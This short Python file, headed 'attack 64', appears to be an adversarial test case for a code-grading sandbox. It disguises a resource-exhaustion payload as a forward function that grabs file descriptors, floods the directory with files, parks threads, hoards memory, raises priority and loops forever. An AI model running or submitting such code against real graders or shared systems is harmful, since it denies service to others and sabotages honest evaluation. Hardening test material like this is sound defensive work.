# attack 64: keep everything that the next one needs: threads, descriptors, memory, inodes, and the lowest priority
# expect: TIMEOUT MEMORY ERROR CRASH
import os
import threading

kept = []
gate = threading.Event()


def multi_param_forward(seed, x, features):
    try:
        os.nice(-20)
    except OSError:
        pass
    for act in (
        lambda: [kept.append(open("/dev/null")) for _ in range(4000)],
        lambda: [open(f"jaxtutor_marker_{number}", "w").close() for number in range(3000)],
        lambda: [threading.Thread(target=gate.wait).start() for _ in range(200)],
        lambda: [kept.append(bytearray(16 * 2**20)) for _ in range(80)],
    ):
        try:
            act()
        except (OSError, RuntimeError, MemoryError):
            pass
    while True:
        pass
